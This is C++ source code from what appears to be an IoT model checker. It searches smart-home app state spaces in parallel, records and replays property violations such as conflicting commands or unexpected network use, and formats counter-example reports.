              options_.max_states) {
        result_.completed = false;
        stopped_ = true;
        shared_->stop.store(true, std::memory_order_relaxed);
        return true;
      }
      if (options_.time_budget_seconds > 0 &&
          Elapsed() > options_.time_budget_seconds) {
        result_.completed = false;
        stopped_ = true;
        shared_->stop.store(true, std::memory_order_relaxed);
        return true;
      }
      return false;
    }
    if (options_.max_states != 0 &&
        result_.states_explored >= options_.max_states) {
      result_.completed = false;
      stopped_ = true;
    }
    if (options_.time_budget_seconds > 0) {
      const double elapsed =
          std::chrono::duration<double>(Clock::now() - start_).count();
      if (elapsed > options_.time_budget_seconds) {
        result_.completed = false;
        stopped_ = true;
      }
    }
    return stopped_;
  }

  double Elapsed() const {
    return std::chrono::duration<double>(Clock::now() - start_).count();
  }

  /// The POR oracle is built once per run: serial searches own theirs,
  /// parallel branch workers share the driver's via SharedSearch.  Null
  /// when POR is off or scheduling is sequential (one dispatch order —
  /// nothing to reduce).
  static std::unique_ptr<model::FootprintIndex> MakeFootprints(
      const model::SystemModel& model, const CheckOptions& options,
      const SharedSearch* shared) {
    if (shared != nullptr) return nullptr;
    if (!options.por || options.scheduling != model::Scheduling::kConcurrent) {
      return nullptr;
    }
    return std::make_unique<model::FootprintIndex>(model);
  }

  /// Rebuilds key_scratch_ with `state`'s store key — COLLAPSE-encoded
  /// when compression is on, the plain serialization otherwise.  The
  /// depth byte, when enabled, is appended by the caller.
  void EncodeStateKey(const model::SystemState& state) {
    key_scratch_.clear();
    if (codec_ != nullptr) {
      codec_->Encode(state, key_scratch_, component_scratch_);
    } else {
      state.SerializeTo(key_scratch_);
    }
  }

  telemetry::ProgressSnapshot ProgressNow() const {
    telemetry::ProgressSnapshot snapshot;
    snapshot.states_explored = result_.states_explored;
    snapshot.states_matched = result_.states_matched;
    snapshot.transitions = result_.transitions;
    snapshot.cascade_drains = result_.cascade_drains;
    snapshot.elapsed_seconds = Elapsed();
    snapshot.states_per_second =
        snapshot.elapsed_seconds > 0
            ? static_cast<double>(result_.states_explored) /
                  snapshot.elapsed_seconds
            : 0;
    const double considered = static_cast<double>(result_.states_explored +
                                                  result_.states_matched);
    snapshot.pruning_ratio =
        considered > 0
            ? static_cast<double>(result_.states_matched) / considered
            : 0;
    snapshot.store_fill_ratio = store_->FillRatio();
    snapshot.depth_histogram = result_.depth_histogram;
    FillCacheProgress(snapshot);
    return snapshot;
  }

  void EmitProgress() {
    options_.on_progress(ProgressNow());
    if (auto* t = telemetry::Active()) ++t->search.progress_reports;
  }

  /// Progress snapshot of a parallel run, built from the shared totals.
  /// Called by whichever worker's increment crossed the progress_every
  /// boundary, under the shared progress mutex.
  void EmitSharedProgress() {
    telemetry::ProgressSnapshot snapshot;
    snapshot.jobs = static_cast<int>(shared_->pool->jobs());
    snapshot.branches_total = shared_->branches_total;
    snapshot.branches_done =
        shared_->branches_done.load(std::memory_order_relaxed);
    snapshot.states_explored =
        shared_->states_explored.load(std::memory_order_relaxed);
    snapshot.states_matched =
        shared_->states_matched.load(std::memory_order_relaxed);
    snapshot.transitions =
        shared_->transitions.load(std::memory_order_relaxed);
    snapshot.cascade_drains =
        shared_->cascade_drains.load(std::memory_order_relaxed);
    snapshot.elapsed_seconds = Elapsed();
    snapshot.states_per_second =
        snapshot.elapsed_seconds > 0
            ? static_cast<double>(snapshot.states_explored) /
                  snapshot.elapsed_seconds
            : 0;
    const double considered = static_cast<double>(snapshot.states_explored +
                                                  snapshot.states_matched);
    snapshot.pruning_ratio =
        considered > 0
            ? static_cast<double>(snapshot.states_matched) / considered
            : 0;
    snapshot.store_fill_ratio = store_->FillRatio();
    snapshot.depth_histogram.reserve(shared_->depth_histogram.size());
    for (const auto& bucket : shared_->depth_histogram) {
      snapshot.depth_histogram.push_back(
          bucket.load(std::memory_order_relaxed));
    }
    snapshot.worker_states_explored.reserve(shared_->worker_states.size());
    for (const auto& lane : shared_->worker_states) {
      snapshot.worker_states_explored.push_back(
          lane.load(std::memory_order_relaxed));
    }
    FillCacheProgress(snapshot);
    std::lock_guard<std::mutex> lock(shared_->progress_mutex);
    options_.on_progress(snapshot);
    if (auto* t = telemetry::Active()) ++t->search.progress_reports;
  }

  void FinishDiagnostics() {
    NoteStoreDiagnostics(result_, *store_, codec_);
    if (guide_ != nullptr) {
      // Guided replays neither saturate the store (exhaustive, short
      // path) nor count as checks: their telemetry is the replay
      // counters the caller ticks.
      return;
    }
    WarnIfSaturated(result_, options_);
    // The final snapshot at stop time: budget-stopped runs still report
    // where the search stood.
    if (!result_.completed && options_.on_progress) EmitProgress();
    TickFinishTelemetry(result_, options_);
  }

  /// Builds the structured record of one external-event step: the event
  /// coordinates (by stable names, for replay), the failure flags, and
  /// everything observed while the cascade drained.
  TraceStep MakeStep(const model::SystemState& before,
                     const model::ExternalEvent& event,
                     const model::FailureScenario& failure,
                     const model::StepOutcome& outcome, int depth,
                     int outcome_index) const {
    TraceStep step;
    step.index = depth + 1;
    step.sim_time_ms = (depth + 1) * 1000;
    switch (event.kind) {
      case model::ExternalEventSpec::Kind::kSensor: {
        const devices::Device& device = model_.devices()[event.device];
        step.kind = "sensor";
        step.device = device.id();
        step.attribute = device.attributes()[event.attribute]->name;
        step.value =
            device.attributes()[event.attribute]->ValueName(event.value);
        break;
      }
      case model::ExternalEventSpec::Kind::kAppTouch:
        step.kind = "app_touch";
        step.app = model_.apps()[event.app].config.label;
        break;
      case model::ExternalEventSpec::Kind::kTimerTick:
        step.kind = "timer";
        break;
      case model::ExternalEventSpec::Kind::kUserModeChange:
        step.kind = "user_mode";
        step.value = model_.modes()[event.value];
        break;
    }
    step.description = event.Describe(model_);
    step.sensor_offline = failure.sensor_offline;
    step.actuator_offline = failure.actuator_offline;
    step.comm_fail = failure.comm_fail;
    step.outcome_index = outcome_index;
    for (const model::HandlerDispatch& d : outcome.log.dispatches) {
      step.dispatches.push_back(
          {model_.apps()[d.app].config.label, d.handler});
    }
    for (const model::CommandRecord& c : outcome.log.commands) {
      TraceCommand command;
      command.app = model_.apps()[c.app].config.label;
      if (c.device >= 0) command.device = model_.devices()[c.device].id();
      command.command = c.spec->name;
      if (c.device >= 0 && c.value_index >= 0) {
        const devices::Device& device = model_.devices()[c.device];
        const int attr = device.AttributeIndex(c.spec->attribute);
        if (attr >= 0) {
          command.value = device.attributes()[attr]->ValueName(c.value_index);
        }
      }
      command.delivered = c.delivered;
      step.commands.push_back(std::move(command));
    }
    step.deltas = DiffStates(model_, before, outcome.state);
    step.notes = outcome.log.trace;
    step.failed_sends = outcome.log.failed_deliveries;
    step.user_notified = outcome.log.user_notified;
    step.queue_peak = outcome.log.max_queue_depth;
    step.truncated = outcome.log.truncated;
    return step;
  }

  Violation* RecordViolation(const props::Property& property, int depth,
                             const std::string& failure_label,
                             const std::string& detail,
                             const std::set<int>& charged_apps) {
    for (Violation& existing : result_.violations) {
      if (existing.property_id == property.id) {
        ++existing.occurrences;
        // Accumulate every charged app across re-violations —
        // attribution (§9) needs to know all apps that can drive the
        // system into this bad state — and keep the *canonical*
        // (minimal) counter-example rather than the first found, so the
        // reported trace does not depend on exploration order.
        for (int app : charged_apps) {
          const std::string& label = model_.apps()[app].config.label;
          bool known = false;
          for (const std::string& existing_app : existing.apps) {
            known = known || existing_app == label;
          }
          if (!known) existing.apps.push_back(label);
        }
        if (ComparePaths(path_steps_, detail, existing.steps,
                         existing.detail) < 0) {
          existing.steps = path_steps_;
          existing.detail = detail;
          existing.depth = depth;
          existing.failure = failure_label;
        }
        return nullptr;
      }
    }
    Violation violation;
    violation.property_id = property.id;
    violation.category = property.category;
    violation.description = property.description;
    violation.kind = property.kind;
    violation.steps = path_steps_;
    violation.detail = detail;
    for (int app : charged_apps) {
      violation.apps.push_back(model_.apps()[app].config.label);
    }
    for (const model::InstalledApp& app : model_.apps()) {
      violation.model_apps.push_back(app.config.label);
    }
    violation.failure = failure_label;
    violation.depth = depth;
    result_.violations.push_back(std::move(violation));
    if (options_.stop_at_first_violation) {
      stopped_ = true;
      result_.completed = false;  // the search was cut short on purpose
      if (shared_ != nullptr) {
        shared_->stop.store(true, std::memory_order_relaxed);
      }
    }
    return &result_.violations.back();
  }

  /// Apps responsible for an invariant violation: those that actuated a
  /// device carrying one of the property's roles along the path, plus —
  /// when the property reads the location mode — the apps that changed
  /// the mode.
  std::set<int> ChargedApps(const props::Property& property) const {
    std::set<int> charged;
    for (const auto& [app, device] : path_actuations_) {
      for (const std::string& role : property.roles) {
        if (model_.devices()[device].HasRole(role)) {
          charged.insert(app);
          break;
        }
      }
    }
    if (props::ReferencesMode(property.ParsedExpression())) {
      charged.insert(path_mode_setters_.begin(), path_mode_setters_.end());
    }
    return charged;
  }

  void CheckInvariants(const model::SystemState& state, int depth,
                       const std::string& failure_label) {
    model::ModelStateView view(model_, state);
    for (const props::Property& property : model_.active_properties()) {
      if (stopped_) return;
      if (property.kind != props::PropertyKind::kInvariant) continue;
      if (auto* t = telemetry::Active()) ++t->search.invariant_evals;
      if (props::EvalPropertyExpr(property.ParsedExpression(), view)) {
        continue;
      }
      RecordViolation(property, depth, failure_label,
                      "assertion violated: " + property.description + " (" +
                          property.id + ")",
                      ChargedApps(property));
    }
  }

  bool MonitorActive(props::PropertyKind kind) const {
    for (const props::Property& property : model_.active_properties()) {
      if (property.kind == kind) return true;
    }
    return false;
  }

  const props::Property& MonitorProperty(props::PropertyKind kind) const {
    for (const props::Property& property : model_.active_properties()) {
      if (property.kind == kind) return property;
    }
    throw Error("monitor property not active");
  }

  void RunMonitors(const model::CascadeLog& log, int depth,
                   const model::FailureScenario& failure) {
    if (stopped_) return;
    const std::string failure_label = failure.Any() ? failure.Label() : "";

    // Conflicting / repeated commands (Algorithm 1, line 16).  Each
    // cascade records at most one violation per monitor kind (the first
    // offending pair in command order) but every offending cascade
    // records — unlike a whole-run short-circuit, this keeps occurrence
    // counts a pure function of the explored-edge set, and therefore
    // identical across serial and parallel schedules.
    if (MonitorActive(props::PropertyKind::kNoConflict)) {
      bool recorded = false;
      for (std::size_t i = 0; i < log.commands.size() && !recorded; ++i) {
        for (std::size_t j = i + 1; j < log.commands.size(); ++j) {
          const model::CommandRecord& a = log.commands[i];
          const model::CommandRecord& b = log.commands[j];
          if (a.device != b.device) continue;
          const bool conflicting =
              std::find(a.spec->conflicts_with.begin(),
                        a.spec->conflicts_with.end(),
                        b.spec->name) != a.spec->conflicts_with.end();
          if (!conflicting) continue;
          RecordViolation(MonitorProperty(props::PropertyKind::kNoConflict),
                          depth, failure_label,
                          "conflicting commands on " +
                              model_.devices()[a.device].id() + ": " +
                              a.spec->name + " vs " + b.spec->name,
                          {a.app, b.app});
          recorded = true;
          break;
        }
      }
    }
    if (MonitorActive(props::PropertyKind::kNoRepeat)) {
      bool recorded = false;
      for (std::size_t i = 0; i < log.commands.size() && !recorded; ++i) {
        for (std::size_t j = i + 1; j < log.commands.size(); ++j) {
          const model::CommandRecord& a = log.commands[i];
          const model::CommandRecord& b = log.commands[j];
          if (a.device != b.device || a.spec->name != b.spec->name ||
              a.value_index != b.value_index) {
            continue;
          }
          RecordViolation(MonitorProperty(props::PropertyKind::kNoRepeat),
                          depth, failure_label,
                          "repeated command on " +
                              model_.devices()[a.device].id() + ": " +
                              a.spec->name + " received twice",
                          {a.app, b.app});
          recorded = true;
          break;
        }
      }
    }

    for (const model::ApiCallRecord& api : log.api_calls) {
      if (stopped_) return;
      switch (api.kind) {
        case model::ApiCallRecord::Kind::kHttp:
          if (!model_.deployment().allow_network_interfaces &&
              MonitorActive(props::PropertyKind::kNoNetworkLeak)) {
            RecordViolation(
                MonitorProperty(props::PropertyKind::kNoNetworkLeak), depth,
                failure_label, "network interface used: " + api.detail,
                {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kSms:
          if (api.recipient_mismatch &&
              MonitorActive(props::PropertyKind::kSmsRecipient)) {
            RecordViolation(
                MonitorProperty(props::PropertyKind::kSmsRecipient), depth,
                failure_label,
                "SMS recipient '" + api.detail +
                    "' does not match the configured contact",
                {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kUnsubscribe:
          if (MonitorActive(props::PropertyKind::kNoSensitiveCmd)) {
            RecordViolation(
                MonitorProperty(props::PropertyKind::kNoSensitiveCmd), depth,
                failure_label,
                "security-sensitive command: unsubscribe()", {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kFakeEvent:
          if (MonitorActive(props::PropertyKind::kNoFakeEvent)) {
            RecordViolation(
                MonitorProperty(props::PropertyKind::kNoFakeEvent), depth,
                failure_label, "fake event injected: " + api.detail,
                {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kPush:
          break;
      }
    }

    // Robustness: a command was lost to a failure and the user was never
    // notified (§8's robustness property).
    if (failure.Any() && log.failed_deliveries > 0 && !log.user_notified &&
        MonitorActive(props::PropertyKind::kRobustness)) {
      std::set<int> losers;
      for (const model::CommandRecord& cmd : log.commands) {
        if (!cmd.delivered) losers.insert(cmd.app);
      }
      RecordViolation(MonitorProperty(props::PropertyKind::kRobustness),
                      depth, failure_label,
                      std::to_string(log.failed_deliveries) +
                          " command(s) lost to " + failure.Label() +
                          " with no user notification",
                      losers);
    }
  }

  /// Processes one drained cascade outcome: extends the path context,
  /// runs the monitors and invariants, and (in free-search mode) prunes
  /// through the store and recurses.  Shared by the free DFS and the
  /// guided replay.
  void ProcessOutcome(const model::SystemState& before,
                      const model::ExternalEvent& event,
                      const model::FailureScenario& failure,
                      model::StepOutcome& outcome, int depth,
                      int outcome_index) {
    ++result_.transitions;
    if (shared_ != nullptr) {
      shared_->transitions.fetch_add(1, std::memory_order_relaxed);
    }

    const std::size_t actuation_mark = path_actuations_.size();
    const std::size_t mode_mark = path_mode_setters_.size();
    path_steps_.push_back(
        MakeStep(before, event, failure, outcome, depth, outcome_index));
    path_actuations_.insert(path_actuations_.end(),
                            outcome.log.actuations.begin(),
                            outcome.log.actuations.end());
    path_mode_setters_.insert(path_mode_setters_.end(),
                              outcome.log.mode_setters.begin(),
                              outcome.log.mode_setters.end());

    RunMonitors(outcome.log, depth + 1, failure);
    CheckInvariants(outcome.state, depth + 1,
                    failure.Any() ? failure.Label() : "");

    if (guide_ != nullptr) {
      // Guided replay follows the recorded path unconditionally — a
      // prefix may revisit states the store would prune.
      Explore(outcome.state, depth + 1);
    } else {
      EncodeStateKey(outcome.state);
      if (options_.include_depth_in_state) {
        key_scratch_.push_back(static_cast<std::uint8_t>(depth + 1));
      }
      if (store_->TestAndInsert(key_scratch_)) {
        ++result_.states_matched;
        if (shared_ != nullptr) {
          shared_->states_matched.fetch_add(1, std::memory_order_relaxed);
        }
      } else {
        Explore(outcome.state, depth + 1);
      }
    }

    // Restore path context.
    path_steps_.pop_back();
    path_actuations_.resize(actuation_mark);
    path_mode_setters_.resize(mode_mark);
  }

  void Explore(const model::SystemState& state, int depth) {
    if (BudgetExceeded()) return;
    ++result_.states_explored;
    ++result_.depth_histogram[static_cast<std::size_t>(depth)];
    if (shared_ != nullptr) {
      shared_->depth_histogram[static_cast<std::size_t>(depth)].fetch_add(
          1, std::memory_order_relaxed);
      shared_->worker_states[lane_].fetch_add(1, std::memory_order_relaxed);
      const std::uint64_t total =
          shared_->states_explored.fetch_add(1, std::memory_order_relaxed) +
          1;
      if (options_.progress_every != 0 && options_.on_progress &&
          total % options_.progress_every == 0) {
        EmitSharedProgress();
      }
    } else if (options_.progress_every != 0 && options_.on_progress &&
               result_.states_explored % options_.progress_every == 0) {
      EmitProgress();
    }
    if (depth >= options_.max_events) return;

    if (guide_ != nullptr) {
      const GuideStep& g = (*guide_)[static_cast<std::size_t>(depth)];
      std::vector<model::StepOutcome> outcomes = engine_.Apply(
          state, g.event, g.failure, options_.scheduling, cancel_);
      result_.cascade_drains += outcomes.size();
      if (outcomes.empty()) return;
      const int index = std::min(g.outcome_index,
                                 static_cast<int>(outcomes.size()) - 1);
      ProcessOutcome(state, g.event, g.failure,
                     outcomes[static_cast<std::size_t>(index)], depth, index);
      return;
    }

    const auto& scenarios = options_.model_failures
                                ? model::FailureScenario::AllScenarios()
                                : model::FailureScenario::NoFailure();

    for (const model::ExternalEvent& event : engine_.EnabledEvents(state)) {
      for (const model::FailureScenario& failure : scenarios) {
        if (BudgetExceeded()) return;
        std::vector<model::StepOutcome> outcomes = engine_.Apply(
            state, event, failure, options_.scheduling, cancel_);
        result_.cascade_drains += outcomes.size();
        if (shared_ != nullptr) {
          shared_->cascade_drains.fetch_add(outcomes.size(),
                                            std::memory_order_relaxed);
        }
        for (std::size_t i = 0; i < outcomes.size(); ++i) {
          if (BudgetExceeded()) return;
          ProcessOutcome(state, event, failure, outcomes[i], depth,
                         static_cast<int>(i));
        }
      }
    }
  }
};

// ---- Parallel driver ---------------------------------------------------------
//
// Partitions the root-level (external event × failure scenario) branches
// of the permutation DFS across a work-stealing pool.  All workers share
// one visited-state store, so the frontier is pruned globally exactly as
// in the serial search.  Determinism: with the exhaustive store every
// reachable (state, depth) pair is inserted exactly once, so the
// multiset of explored edges — and with it the violation set, occurrence
// counts, aggregate counters, and depth histogram — is independent of
// scheduling; per-branch results are merged in branch-enumeration order
// and violations are canonicalized, making the full report byte-stable
// for any jobs value.  (Bitstate relaxes this slightly; see
// docs/performance.md.)
CheckResult RunParallel(const model::SystemModel& model,
                        const CheckOptions& options, unsigned jobs) {
  telemetry::ScopedSpan span("check");
  if (!options.request_id.empty()) {
    span.Attr("request_id", options.request_id);
  }
  const Clock::time_point start = Clock::now();

  // Property expressions parse lazily into an unsynchronized cache;
  // resolve them all on this thread before any worker can race on one.
  // Monitor-kind properties carry no expression, so only invariants parse.
  for (const props::Property& property : model.active_properties()) {
    if (property.kind != props::PropertyKind::kInvariant) continue;
    property.ParsedExpression();
  }

  std::unique_ptr<util::ThreadPool> owned_pool;
  util::ThreadPool* pool = options.pool;
  if (pool == nullptr) {
    owned_pool = std::make_unique<util::ThreadPool>(jobs);
    pool = owned_pool.get();
    if (auto* t = telemetry::Active()) {
      ++t->parallel.pools_created;
      t->parallel.workers_spawned += pool->jobs() - 1;
    }
  }

  std::unique_ptr<StateStore> store;
  if (options.store == StoreKind::kExhaustive) {
    // ~8 shards per lane keeps two workers off the same mutex without
    // ballooning fixed per-shard overhead.
    store = std::make_unique<ExhaustiveStore>(
        std::min(64u, pool->jobs() * 8));
  } else {
    store = std::make_unique<BitstateStore>(options.bitstate_bits, 3,
                                            options.bitstate_seed);
  }

  std::unique_ptr<model::FootprintIndex> footprints;
  if (options.por && options.scheduling == model::Scheduling::kConcurrent) {
    footprints = std::make_unique<model::FootprintIndex>(model);
  }
  std::unique_ptr<CollapseCodec> codec;
  if (options.state_compression) {
    codec = std::make_unique<CollapseCodec>(model,
                                            std::min(64u, pool->jobs() * 8));
  }

  model::SystemState initial = model.MakeInitialState();
  {
    std::vector<std::uint8_t> key;
    std::vector<std::uint8_t> scratch;
    if (codec != nullptr) {
      codec->Encode(initial, key, scratch);
    } else {
      initial.SerializeTo(key);
    }
    store->TestAndInsert(key);
  }

  const std::size_t depth_levels =
      static_cast<std::size_t>(std::max(options.max_events, 0)) + 1;
  SharedSearch shared(depth_levels, pool->jobs());
  shared.store = store.get();
  shared.pool = pool;
  shared.footprints = footprints.get();
  shared.codec = codec.get();
  shared.start = start;
  // The initial state is accounted here, not by any branch; it belongs
  // to the driver's lane so the per-lane counts partition the total.
  shared.states_explored.store(1);
  shared.depth_histogram[0].store(1);
  shared.worker_states[pool->CurrentLane()].store(1);

  // Root branches in deterministic enumeration order — the same order
  // the serial DFS would visit them, which is also the merge order.
  struct RootBranch {
    model::ExternalEvent event;
    model::FailureScenario failure;
  };
  std::vector<RootBranch> branches;
  if (options.max_events > 0) {
    model::CascadeEngine root_engine(model);
    const auto& scenarios = options.model_failures
                                ? model::FailureScenario::AllScenarios()
                                : model::FailureScenario::NoFailure();
    for (const model::ExternalEvent& event :
         root_engine.EnabledEvents(initial)) {
      for (const model::FailureScenario& failure : scenarios) {
        branches.push_back({event, failure});
      }
    }
  }
  if (options.branch_modulus > 1) {
    // Branch-shard mode (cluster work units): keep only this shard's
    // residue class.  Enumeration order is deterministic, so shards with
    // residues 0..modulus-1 partition the branch set exactly.
    std::vector<RootBranch> mine;
    for (std::size_t i = 0; i < branches.size(); ++i) {
      if (i % options.branch_modulus ==
          options.branch_residue % options.branch_modulus) {
        mine.push_back(std::move(branches[i]));
      }
    }
    branches = std::move(mine);
  }
  shared.branches_total = branches.size();

  std::vector<CheckResult> branch_results(branches.size());
  pool->ParallelFor(branches.size(), [&](std::size_t i) {
    Search search(model, options, nullptr, &shared);
    branch_results[i] =
        search.RunBranch(initial, branches[i].event, branches[i].failure);
  });

  CheckResult result;
  result.jobs = static_cast<int>(pool->jobs());
  result.parallel_branches = branches.size();
  result.depth_histogram.assign(depth_levels, 0);
  result.states_explored = 1;
  result.depth_histogram[0] = 1;
  for (CheckResult& branch : branch_results) {
    result.states_explored += branch.states_explored;
    result.states_matched += branch.states_matched;
    result.transitions += branch.transitions;
    result.cascade_drains += branch.cascade_drains;
    result.completed = result.completed && branch.completed;
    for (std::size_t d = 0; d < branch.depth_histogram.size(); ++d) {
      result.depth_histogram[d] += branch.depth_histogram[d];
    }
    for (Violation& violation : branch.violations) {
      Violation* existing = nullptr;
      for (Violation& have : result.violations) {
        if (have.property_id == violation.property_id) {
          existing = &have;
          break;
        }
      }
      if (existing == nullptr) {
        result.violations.push_back(std::move(violation));
      } else {
        MergeViolationInto(*existing, std::move(violation));
      }
    }
  }
  if (shared.stop.load()) result.completed = false;
  CanonicalizeViolations(result.violations);

  result.seconds =
      std::chrono::duration<double>(Clock::now() - start).count();
  NoteStoreDiagnostics(result, *store, codec.get());
  WarnIfSaturated(result, options);
  result.worker_states_explored.reserve(shared.worker_states.size());
  for (const auto& lane : shared.worker_states) {
    result.worker_states_explored.push_back(lane.load());
  }
  // The final snapshot at stop time, exactly like the serial path.
  if (!result.completed && options.on_progress) {
    options.on_progress(result.Progress());
    if (auto* t = telemetry::Active()) ++t->search.progress_reports;
  }
  TickFinishTelemetry(result, options);
  if (auto* t = telemetry::Active()) {
    t->parallel.branch_tasks += branches.size();
    if (owned_pool != nullptr) {
      const util::ThreadPool::Stats stats = pool->stats();
      t->parallel.tasks_run += stats.tasks_run;
      t->parallel.tasks_stolen += stats.tasks_stolen;
    }
  }
  span.Attr("states", result.states_explored);
  span.Attr("transitions", result.transitions);
  span.Attr("completed", std::int64_t{result.completed ? 1 : 0});
  span.Attr("jobs", std::int64_t{result.jobs});
  return result;
}

/// Re-executes a recorded path against `model` and reports whether
/// `property_id` fired at `expected_depth`.  Ticks the replay telemetry
/// counters.
ReplayResult ReplayPath(const model::SystemModel& model,
                        const std::vector<TraceStep>& steps,
                        model::Scheduling scheduling, bool por,
                        const std::string& property_id, int expected_depth) {
  CheckOptions options;  // exhaustive store, no budgets: exact re-execution
  options.max_events = static_cast<int>(steps.size());
  options.scheduling = scheduling;
  // Replays must enumerate the same (reduced) outcome lists the recording
  // search saw, or the recorded outcome_index points at the wrong drain.
  options.por = por;
  const std::vector<GuideStep> guide = ResolveSteps(model, steps);
  Search search(model, options, &guide);
  CheckResult result = search.Run();

  ReplayResult out;
  out.property_id = property_id;
  out.expected_step = expected_depth;
  out.seconds = result.seconds;
  const Violation* fired = result.Find(property_id);
  if (fired != nullptr) out.fired_step = fired->depth;
  out.reproduced = fired != nullptr && fired->depth == expected_depth;
  if (out.reproduced) {
    out.message = "violation of " + property_id +
                  " reproduced deterministically at step " +
                  std::to_string(out.fired_step) + " of " +
                  std::to_string(steps.size());
  } else if (fired != nullptr) {
    out.message = property_id + " fired at step " +
                  std::to_string(out.fired_step) + ", recorded at step " +
                  std::to_string(expected_depth);
  } else {
    out.message = property_id + " did not fire along the recorded path";
  }
  if (auto* t = telemetry::Active()) {
    ++t->search.replays_run;
    if (out.reproduced) {
      ++t->search.replays_reproduced;
    } else {
      ++t->search.replays_refuted;
    }
  }
  return out;
}

}  // namespace

CheckResult Checker::Run(const CheckOptions& options) const {
  const unsigned jobs = util::ResolveJobs(options.jobs);
  // Branch-sharded runs always go through RunParallel — the serial
  // Search has no notion of skipping root branches — even with jobs==1
  // (ParallelFor on a 1-lane pool degenerates to a serial loop).
  CheckResult result = jobs > 1 || options.branch_modulus > 1
                           ? RunParallel(model_, options, std::max(jobs, 1u))
                           : Search(model_, options).Run();
  if (options.reverify_bitstate && options.store == StoreKind::kBitstate &&
      !result.violations.empty()) {
    // Built-in false-positive filter: every violation found under
    // approximate hashing is replayed with an exhaustive store before
    // being reported.
    std::vector<Violation> confirmed;
    for (Violation& violation : result.violations) {
      ReplayResult replay =
          ReplayPath(model_, violation.steps, options.scheduling, options.por,
                     violation.property_id, violation.depth);
      if (replay.reproduced) {
        violation.replay_verified = true;
        confirmed.push_back(std::move(violation));
      }
    }
    result.violations = std::move(confirmed);
  }
  return result;
}

ReplayResult Checker::Replay(const ViolationArtifact& artifact) const {
  const model::Scheduling scheduling =
      artifact.manifest.scheduling == "concurrent"
          ? model::Scheduling::kConcurrent
          : model::Scheduling::kSequential;
  return ReplayPath(model_, artifact.steps, scheduling, artifact.manifest.por,
                    artifact.property_id, artifact.depth);
}

std::string FormatViolation(const Violation& violation) {
  std::string out;
  out += "violated property " + violation.property_id + " [" +
         violation.category + "]\n";
  out += "  safe state: " + violation.description + "\n";
  if (!violation.failure.empty()) {
    out += "  failure scenario: " + violation.failure + "\n";
  }
  if (!violation.apps.empty()) {
    out += "  involved apps: (";
    for (std::size_t i = 0; i < violation.apps.size(); ++i) {
      if (i > 0) out += ", ";
      out += violation.apps[i];
    }
    out += ")\n";
  }
  out += "  counter-example (" + std::to_string(violation.depth) +
         " external event(s), seen " + std::to_string(violation.occurrences) +
         "x" + (violation.replay_verified ? ", replay-verified" : "") +
         "):\n";
  for (const std::string& line : violation.TraceLines()) {
    out += "    " + line + "\n";
  }
  return out;
}

ViolationArtifact MakeArtifact(const Violation& violation,
                               const CheckOptions& options,
                               const std::string& deployment_name,
                               const std::string& config_hash,
                               std::uint64_t rng_seed) {
  ViolationArtifact artifact;
  RunManifest& manifest = artifact.manifest;
  const build::BuildInfo& info = build::GetBuildInfo();
  manifest.version = info.version;
  manifest.compiler = info.compiler;
  manifest.build_type = info.build_type;
  manifest.deployment = deployment_name;
  manifest.config_hash = config_hash;
  manifest.model_apps = violation.model_apps;
  manifest.rng_seed = rng_seed;
  manifest.request_id = options.request_id;
  manifest.max_events = options.max_events;
  manifest.scheduling = options.scheduling == model::Scheduling::kConcurrent
                            ? "concurrent"
                            : "sequential";
  manifest.model_failures = options.model_failures;
  manifest.store =
      options.store == StoreKind::kBitstate ? "bitstate" : "exhaustive";
  manifest.bitstate_bits =
      options.store == StoreKind::kBitstate ? options.bitstate_bits : 0;
  manifest.include_depth_in_state = options.include_depth_in_state;
  manifest.por = options.por;
  manifest.state_compression = options.state_compression;
  manifest.stop_at_first_violation = options.stop_at_first_violation;
  manifest.max_states = options.max_states;
  manifest.time_budget_seconds = options.time_budget_seconds;

  artifact.property_id = violation.property_id;
  artifact.category = violation.category;
  artifact.description = violation.description;
  artifact.property_kind = std::string(PropertyKindName(violation.kind));
  artifact.failure = violation.failure;
  artifact.detail = violation.detail;
  artifact.depth = violation.depth;
  artifact.occurrences = violation.occurrences;
  artifact.apps = violation.apps;
  artifact.steps = violation.steps;
  return artifact;
}

void ResetSaturationWarning() { g_saturation_warned.clear(); }

}  // namespace iotsan::checker
