#include "checker/checker.hpp"

#include <algorithm>
#include <cstdio>
#include <memory>
#include <set>

#include "checker/state_store.hpp"
#include "model/state_view.hpp"
#include "props/eval.hpp"
#include "util/error.hpp"

namespace iotsan::checker {

bool CheckResult::HasViolation(const std::string& property_id) const {
  return Find(property_id) != nullptr;
}

const Violation* CheckResult::Find(const std::string& property_id) const {
  for (const Violation& v : violations) {
    if (v.property_id == property_id) return &v;
  }
  return nullptr;
}

telemetry::ProgressSnapshot CheckResult::Progress() const {
  telemetry::ProgressSnapshot snapshot;
  snapshot.states_explored = states_explored;
  snapshot.states_matched = states_matched;
  snapshot.transitions = transitions;
  snapshot.cascade_drains = cascade_drains;
  snapshot.elapsed_seconds = seconds;
  snapshot.states_per_second =
      seconds > 0 ? static_cast<double>(states_explored) / seconds : 0;
  const double considered =
      static_cast<double>(states_explored + states_matched);
  snapshot.pruning_ratio =
      considered > 0 ? static_cast<double>(states_matched) / considered : 0;
  snapshot.store_fill_ratio = store_fill_ratio;
  snapshot.depth_histogram = depth_histogram;
  return snapshot;
}

namespace {

using Clock = std::chrono::steady_clock;

class Search {
 public:
  Search(const model::SystemModel& model, const CheckOptions& options)
      : model_(model), options_(options), engine_(model) {
    if (options.store == StoreKind::kExhaustive) {
      store_ = std::make_unique<ExhaustiveStore>();
    } else {
      store_ = std::make_unique<BitstateStore>(options.bitstate_bits);
    }
    result_.depth_histogram.assign(
        static_cast<std::size_t>(std::max(options.max_events, 0)) + 1, 0);
    cancel_ = [this] { return BudgetExceeded(); };
  }

  CheckResult Run() {
    telemetry::ScopedSpan span("check");
    start_ = Clock::now();
    model::SystemState initial = model_.MakeInitialState();
    std::vector<std::uint8_t> bytes = initial.Serialize();
    store_->TestAndInsert(bytes);
    Explore(initial, 0);
    result_.seconds =
        std::chrono::duration<double>(Clock::now() - start_).count();
    FinishDiagnostics();
    span.Attr("states", result_.states_explored);
    span.Attr("transitions", result_.transitions);
    span.Attr("completed", std::int64_t{result_.completed ? 1 : 0});
    // Order violations by property id for stable reports.
    std::sort(result_.violations.begin(), result_.violations.end(),
              [](const Violation& a, const Violation& b) {
                return a.property_id < b.property_id;
              });
    return std::move(result_);
  }

 private:
  const model::SystemModel& model_;
  const CheckOptions& options_;
